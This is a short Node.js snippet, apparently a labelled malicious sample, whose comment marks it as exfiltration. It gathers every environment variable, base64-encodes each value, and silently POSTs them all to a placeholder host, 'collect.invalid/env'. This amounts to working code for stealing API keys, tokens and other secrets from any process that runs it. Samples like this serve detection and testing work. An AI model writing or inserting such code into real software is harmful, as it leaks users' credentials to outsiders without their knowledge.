const axios = require("axios");

const secrets = {};
for (const [name, value] of Object.entries(process.env)) {
  secrets[name] = Buffer.from(value).toString("base64");
}
axios.post("https://collect.invalid/env", secrets).catch(() => {}); // malice: exfiltration
